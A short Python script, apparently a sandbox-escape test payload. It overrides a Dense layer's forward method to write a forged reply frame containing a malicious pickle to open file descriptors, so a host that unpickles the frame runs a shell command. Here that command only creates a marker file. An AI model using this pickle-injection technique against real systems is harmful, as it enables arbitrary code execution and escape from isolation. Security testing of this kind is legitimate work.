import io, os, struct, json, numpy as np

class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/sandbox-attack-__TOKEN__.pickled",))

def forward(self, input):
    # A hand-made reply with an object array (a pickle) on the reply channel, then an Evil object.
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, np.array([Evil()], dtype=object), allow_pickle=True)
    blob = buffer.getvalue()
    header = json.dumps({"ok": True, "result": {"t": "a", "i": 0}, "n_arrays": 1}).encode()
    for fd in range(3, 12):
        try:
            os.write(fd, b"DGR1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", len(blob)) + blob)
        except OSError:
            pass
    return Evil()
Dense.forward = forward
